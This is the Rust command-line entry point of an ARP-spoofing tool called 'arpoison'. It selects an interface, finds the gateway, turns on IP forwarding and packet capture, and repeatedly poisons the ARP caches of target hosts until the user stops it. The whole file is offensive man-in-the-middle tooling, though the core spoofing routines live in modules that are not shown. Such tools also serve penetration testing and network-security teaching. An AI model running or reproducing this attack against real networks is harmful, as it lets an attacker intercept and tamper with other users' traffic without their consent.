//! arpoison command-line entry point

mod args;

use args::Cli;
use arpoison_capture::PacketCapture;
use arpoison_core::{
    default_gateway, DuplexMode, Error, Interface, ProcForwarding, Result, TargetRegistry,
};
use arpoison_spoof::{ArpProbeResolver, ArpSpoofer, SpoofConfig, SpoofContext};
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse_args();

    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(cli.log_filter())),
        )
        .init();

    if cli.list_interfaces {
        list_interfaces();
        return Ok(());
    }

    let name = cli
        .interface
        .as_deref()
        .ok_or_else(|| Error::Interface("no interface given, see --help".to_string()))?;
    let interface = Interface::by_name(name)?;
    let local_ip = interface
        .ipv4()
        .ok_or_else(|| Error::Interface(format!("interface '{}' has no IPv4 address", name)))?;

    let gateway_ip = match cli.gateway {
        Some(ip) => ip,
        None => discover_gateway(name)?,
    };

    let duplex = if cli.half_duplex {
        DuplexMode::Half
    } else {
        DuplexMode::Full
    };

    if cli.targets.is_empty() {
        warn!("no targets given, poisoning will start once some are added");
    }

    let config = SpoofConfig::new(gateway_ip)
        .duplex(duplex)
        .poison_interval(Duration::from_secs(cli.interval.max(1)));

    let ctx = SpoofContext {
        local_ip,
        sender: Arc::new(interface.open_sender()?),
        resolver: Arc::new(ArpProbeResolver::new(interface.clone(), local_ip)),
        firewall: Arc::new(ProcForwarding::new()),
        targets: Arc::new(TargetRegistry::from_ips(cli.targets.iter().copied())),
        capture: Box::new(PacketCapture::new(&interface.name)),
        interface,
        config,
        events: None,
    };

    let mut spoofer = ArpSpoofer::new(ctx).await?;
    spoofer.start().await?;

    info!("poisoning, press Ctrl-C to stop");
    tokio::signal::ctrl_c().await?;

    spoofer.stop().await?;
    Ok(())
}

fn discover_gateway(interface: &str) -> Result<Ipv4Addr> {
    match default_gateway(interface)? {
        Some(ip) => {
            info!(gateway = %ip, "gateway read from routing table");
            Ok(ip)
        }
        None => Err(Error::Interface(format!(
            "no default route on '{}', pass --gateway",
            interface
        ))),
    }
}

fn list_interfaces() {
    for iface in Interface::list_all() {
        let state = if iface.is_up { "up" } else { "down" };
        let addr = iface
            .ipv4()
            .map(|ip| ip.to_string())
            .unwrap_or_else(|| "-".to_string());
        println!("{:<12} {:<18} {:<16} {}", iface.name, iface.mac_address, addr, state);
    }
}
